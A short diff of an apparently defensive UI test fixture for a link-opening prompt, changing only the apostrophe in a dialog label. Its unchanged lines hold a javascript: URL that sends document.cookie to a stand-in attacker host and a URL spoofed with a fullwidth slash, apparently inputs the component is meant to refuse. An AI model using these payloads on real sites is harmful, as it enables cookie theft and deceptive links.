@@ -53,7 +53,7 @@ export const states: ElementStates<PorticoLinkPrompt> = {
     ]),
     program: {
       ...asking('javascript:fetch("https://evil.example/"+document.cookie)'),
-      tree: ['alertdialog "This link can’t be opened"', 'button "Close"'],
+      tree: ['alertdialog "This link can\'t be opened"', 'button "Close"'],
     },
     unreadable: asking('https://evil.example％2foa.example.com/'),
     refused: {
